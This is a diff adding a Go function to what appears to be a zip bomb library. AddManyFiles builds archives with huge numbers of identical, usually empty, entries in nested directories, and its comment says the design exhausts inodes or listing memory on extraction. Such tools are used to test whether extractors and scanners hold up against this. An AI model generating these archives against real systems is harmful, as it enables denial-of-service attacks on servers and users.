@@ -0,0 +1,70 @@
+package zipbomb
+
+import (
+	"path"
+
+	"github.com/hupe1980/zipbomb/pkg/filename"
+)
+
+type ManyFilesOptions struct {
+	FilenameGen      filename.Generator
+	OnFileCreateHook OnFileCreateHookFunc
+	Method           uint16
+	CompressionLevel int // Deflate [-2,9]
+
+	// Depth is the number of directories every file is nested in. The
+	// directory names are generated by FilenameGen as well.
+	Depth int
+
+	EncryptionOptions
+}
+
+// AddManyFiles adds numFiles entries that all share the same, usually empty,
+// content. The archive stays small, but extracting it exhausts inodes or the
+// memory of directory listings. More than 65535 entries need zip64 end
+// records.
+func (zb *ZipBomb) AddManyFiles(kernel Kernel, numFiles int, optFns ...func(o *ManyFilesOptions)) error {
+	opts := ManyFilesOptions{
+		FilenameGen:      filename.NewDefaultGenerator(filename.DefaultAlphabet, ""),
+		CompressionLevel: 5,
+		Method:           Store,
+	}
+
+	for _, fn := range optFns {
+		fn(&opts)
+	}
+
+	dir := make([]string, 0, opts.Depth)
+	for i := 0; i < opts.Depth; i++ {
+		dir = append(dir, opts.FilenameGen.Generate(i))
+	}
+
+	k, err := zb.newKernel("", kernel, opts.Method, opts.CompressionLevel)
+	if err != nil {
+		return err
+	}
+
+	for i := 0; i < numFiles; i++ {
+		// files are written one by one to keep millions of entries
+		// out of memory, apart from the central directory
+		lfh := newFileHeader(
+			k.CompressedSize(),
+			k.UncompressedSize(),
+			k.CRC32(),
+			path.Join(append(dir, opts.FilenameGen.Generate(i))...),
+			opts.Method,
+		)
+
+		if err := zb.writeFiles([]fileRecord{{header: lfh, data: k.Data(), encryption: opts.EncryptionOptions}}); err != nil {
+			return err
+		}
+
+		zb.uncompressedSize = zb.uncompressedSize + int64(lfh.UncompressedSize64)
+
+		if opts.OnFileCreateHook != nil {
+			opts.OnFileCreateHook(lfh.Name)
+		}
+	}
+
+	return nil
+}